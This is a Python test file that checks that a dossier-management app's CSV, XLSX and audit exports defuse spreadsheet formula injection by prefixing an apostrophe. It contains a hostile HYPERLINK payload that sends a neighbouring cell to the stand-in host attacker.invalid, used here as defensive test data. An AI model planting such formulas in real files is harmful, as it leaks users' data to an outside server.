"""No exported cell is a formula: every CSV and XLSX file the app writes (the subjects export
on the page and the command line, the report as CSV and XLSX on both, the audit trail) turns
text that a spreadsheet would run into text, with OWASP's leading apostrophe. Each leading
character goes through each export; the values are planted in the real database."""

from __future__ import annotations

import csv
import io
import re
import uuid
from datetime import date, timedelta
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select, update

from audit.trail import record
from cases.models import Subject
from cases.subjects.operations import SubjectData, create_subject
from protection.db import db
from protection.i18n import local_today
from protection.identity import Unit
from protection.spreadsheets import (
    FORMULA_TRIGGERS,
    csv_writer,
    restore_cell,
    spreadsheet_cell,
    write_xlsx_row,
    xlsx_workbook,
)

# Clicked in a spreadsheet, this sends the neighbouring cell to someone else's server.
FORMULA = 'HYPERLINK("http://attacker.invalid/?"&B2,"Mở hồ sơ")'
TRIGGER_IDS = ["equals", "plus", "minus", "at", "tab", "cr"]
SUBJECT_TEXT_COLUMNS = ("full_name", "native_place", "current_unit", "position", "other_names", "residence",
                        "ethnicity", "religion")
ID_NUMBER = "001080000001"


@pytest.fixture(autouse=True)
def _rate_limit_out_of_the_way(app_config):
    app_config["HOSO_LOGIN_RATE_LIMIT"] = "1000 per minute"


def payload(trigger: str) -> str:
    return trigger + FORMULA


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def read_csv_file(path) -> str:
    with open(path, encoding="utf-8", newline="") as handle:  # a "\r" in a cell stays one
        return handle.read()


def assert_neutralised_csv(text: str, value: str, expected_count: int) -> None:
    planted = [cell for cell in csv_cells(text) if FORMULA in cell]
    assert planted == ["'" + value] * expected_count, planted


def assert_neutralised_xlsx(data: bytes, value: str) -> None:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    planted = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and FORMULA in cell.value:
                    # XlsxWriter stores a carriage return as the OOXML escape _x000D_, which
                    # Excel reads back as "\r" and openpyxl leaves as it is.
                    planted.append(cell.value.replace("_x000D_", "\r"))
        # the counts stay numbers
        assert any(cell.data_type == "n" and cell.value is not None for row in sheet.iter_rows() for cell in row)
    assert planted == ["'" + value] * len(workbook.worksheets), planted


def plant_subject(app, value: str) -> None:
    """A dossier whose every text field holds the value, exactly (the form would trim a
    leading tab; an older import or a future API might not)."""
    with app.app_context():
        unit = db.session.scalar(select(Unit).where(Unit.code == "BTCTU"))
        subject = create_subject(SubjectData(full_name="Nguyễn Văn An", date_of_birth=date(1980, 5, 1),
                                             id_number=ID_NUMBER), owner_unit=unit, by=None)
        for column in SUBJECT_TEXT_COLUMNS:
            setattr(subject, column, value)
        db.session.commit()


def name_unit(app, value: str) -> None:
    with app.app_context():
        db.session.execute(update(Unit).where(Unit.code == "BTCTU").values(name=value))
        db.session.commit()


def report_period(app) -> list[str]:
    with app.app_context():
        today = local_today()  # the organisation's calendar day, as the reports count days
    return ["--from", (today - timedelta(days=30)).strftime("%d/%m/%Y"), "--to", today.strftime("%d/%m/%Y"),
            "--unit", "BTCTU"]


# --- each leading character through each export ---------------------------------------------------

@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=TRIGGER_IDS)
def test_subjects_csv_on_the_page(app, client, login_as, trigger):
    login_as("supervisor")
    plant_subject(app, payload(trigger))
    response = client.get("/subjects/export.csv")
    assert response.status_code == 200
    assert_neutralised_csv(response.get_data(as_text=True), payload(trigger), len(SUBJECT_TEXT_COLUMNS))


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=TRIGGER_IDS)
def test_subjects_csv_on_the_command_line(app, runner, make_unit, tmp_path, trigger):
    make_unit()
    plant_subject(app, payload(trigger))
    target = tmp_path / "subjects.csv"
    result = runner.invoke(args=["export", "subjects", str(target), "--unit", "BTCTU"])
    assert result.exit_code == 0, result.output
    assert_neutralised_csv(read_csv_file(target), payload(trigger), len(SUBJECT_TEXT_COLUMNS))


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=TRIGGER_IDS)
def test_report_csv_on_the_page(app, client, login_as, trigger):
    login_as("supervisor")
    name_unit(app, payload(trigger))
    response = client.get("/reports/export.csv")
    assert response.status_code == 200
    assert_neutralised_csv(response.get_data(as_text=True), payload(trigger), 1)


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=TRIGGER_IDS)
def test_report_csv_on_the_command_line(app, runner, make_unit, tmp_path, trigger):
    make_unit()
    name_unit(app, payload(trigger))
    target = tmp_path / "report.csv"
    result = runner.invoke(args=["report", *report_period(app), "--format", "csv", "--output", str(target)])
    assert result.exit_code == 0, result.output
    assert_neutralised_csv(read_csv_file(target), payload(trigger), 1)


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=TRIGGER_IDS)
def test_report_xlsx_on_the_page(app, client, login_as, trigger):
    login_as("supervisor")
    name_unit(app, payload(trigger))
    response = client.get("/reports/export.xlsx")
    assert response.status_code == 200
    assert_neutralised_xlsx(response.data, payload(trigger))


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=TRIGGER_IDS)
def test_report_xlsx_on_the_command_line(app, runner, make_unit, tmp_path, trigger):
    make_unit()
    name_unit(app, payload(trigger))
    target = tmp_path / "report.xlsx"
    result = runner.invoke(args=["report", *report_period(app), "--format", "xlsx", "--output", str(target)])
    assert result.exit_code == 0, result.output
    assert_neutralised_xlsx(target.read_bytes(), payload(trigger))


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=TRIGGER_IDS)
def test_audit_csv(app, client, login_as, trigger):
    login_as("auditor")
    with app.app_context():
        record("case.view", target_type="case", target_id=payload(trigger))
        db.session.commit()
    response = client.get("/audit/export.csv")
    assert response.status_code == 200
    assert_neutralised_csv(response.get_data(as_text=True), payload(trigger), 1)


# --- the rule itself ------------------------------------------------------------------------------

@pytest.mark.parametrize(("value", "written"), [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("'=1", "''=1"),  # looks already quoted: one more, so reading it back is exact
    ("Nguyễn Văn An", "Nguyễn Văn An"), ("'Tư'", "'Tư'"), ("a=b", "a=b"), ("", ""), (None, ""),
    (-5, -5), (2.5, 2.5), (0, 0),  # real numbers stay numbers
])
def test_the_rule(value, written):
    assert spreadsheet_cell(value) == written
    if isinstance(value, str):
        assert restore_cell(written) == value


def test_a_negative_number_stays_a_number_in_both_formats():
    buffer = io.StringIO()
    csv_writer(buffer, lineterminator="\n").writerow([-5, "-5", 1.5])
    assert buffer.getvalue() == "-5,'-5,1.5\n"
    data = io.BytesIO()
    workbook = xlsx_workbook(data, in_memory=True)
    sheet = workbook.add_worksheet()
    write_xlsx_row(sheet, 0, 0, [-5, "-5", "=1+2", None, "http://example.invalid", "12"])
    workbook.close()
    cells = list(openpyxl.load_workbook(io.BytesIO(data.getvalue())).active.iter_rows(values_only=True))[0]
    assert cells == (-5, "'-5", "'=1+2", None, "http://example.invalid", "12")


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "'="], ids=["equals", "plus", "minus", "at", "quoted"])
def test_the_subjects_export_imports_back_unchanged(app, runner, make_unit, tmp_path, trigger):
    """The export is also an import file: the apostrophe comes off on the way back in."""
    make_unit()
    value = trigger + FORMULA
    plant_subject(app, value)
    target = tmp_path / "subjects.csv"
    assert runner.invoke(args=["export", "subjects", str(target), "--unit", "BTCTU"]).exit_code == 0
    result = runner.invoke(args=["import", "subjects", str(target), "--unit", "BTCTU"])
    assert result.exit_code == 0, result.output
    assert "0 created, 0 updated, 1 unchanged" in result.output
    with app.app_context():
        subject = db.session.scalar(select(Subject))
        assert [getattr(subject, column) for column in SUBJECT_TEXT_COLUMNS] == [value] * len(SUBJECT_TEXT_COLUMNS)
        assert isinstance(subject.id, uuid.UUID)
        db.session.commit()


def test_no_exporter_writes_cells_around_the_helper():
    """A new CSV or XLSX writer must go through protection/spreadsheets.py: the one place that
    knows the rule (as the url_map walk does for permissions)."""
    root = Path(__file__).resolve().parent.parent
    pattern = re.compile(r"csv\.writer\(|csv\.DictWriter\(|xlsxwriter\.Workbook\(|import xlsxwriter|\.write_row\(")
    found = []
    for package in ("protection", "audit", "cases"):
        for path in sorted((root / package).rglob("*.py")):
            if path.relative_to(root).as_posix() == "protection/spreadsheets.py":
                continue
            found += [f"{path.relative_to(root)}:{number}" for number, line in
                      enumerate(path.read_text(encoding="utf-8").splitlines(), start=1) if pattern.search(line)]
    assert found == []
